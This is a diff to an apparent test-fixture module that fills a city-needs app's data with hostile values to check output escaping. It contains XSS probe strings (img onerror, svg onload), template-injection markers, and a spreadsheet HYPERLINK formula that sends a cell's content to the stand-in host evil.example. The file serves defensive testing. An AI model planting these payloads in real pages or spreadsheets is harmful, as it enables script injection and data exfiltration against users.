@@ -37,9 +37,11 @@ FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
 HOSTILE_WORK_ID = "w'\"><img src=x onerror=alert(5)>${1}"
 HOSTILE_DISTRICT_ID = "d\"><svg onload=alert(6)>"
-HOSTILE_NEED_ID = "n'\"><img src=x onerror=alert(8)>${1}{{7*7}}"
+HOSTILE_NEED_ID = "n'\"><svg onload=alert(8)>${1}{{7*7}}"
 # The work a browser test clicks to open its popup.
 POPUP_WORK_ID = "p1"
+# The needs with a point (their popups); n12 gets the hostile id.
+POPUP_NEED_ID = "n1"
 
 
 def hostile(marker):
@@ -81,15 +83,18 @@ def meetings():
 
 
 def needs():
-    """The tiny city's needs with the payload in every text (ids aside: one is hostile)."""
+    """geo's tiny needs with a payload in every title and answer (a declined need must
+    answer), n12 (waiting, with a point) under a hostile id in the hostile district."""
     rename = {tiny.DISTRICTS[2]["id"]: HOSTILE_DISTRICT_ID}
     rows = []
     for row in tiny.NEEDS:
         texts = {f"title_{lang}": hostile(f"need-{row['id']}-{lang}") for lang in ("ru", "kk", "en")}
-        answers = {f"answer_{lang}": hostile(f"answer-{row['id']}-{lang}") for lang in ("ru", "kk")}
-        rows.append({**row, **texts, **answers,
+        texts.update({f"answer_{lang}": hostile(f"answer-{row['id']}-{lang}") for lang in ("ru", "kk")})
+        # The hostile work id has spaces, which work_ids cannot carry: n13 answers no work here.
+        work_ids = "" if row["id"] == "n13" else row["work_ids"]
+        rows.append({**row, **texts, "work_ids": work_ids,
                      "district_id": rename.get(row["district_id"], row["district_id"])})
-    rows[-1] = {**rows[-1], "id": HOSTILE_NEED_ID}  # n13, in the district with the hostile id
+    rows[11] = {**rows[11], "id": HOSTILE_NEED_ID}
     rows[0] = {**rows[0], "title_ru": FORMULA}
     return rows
 
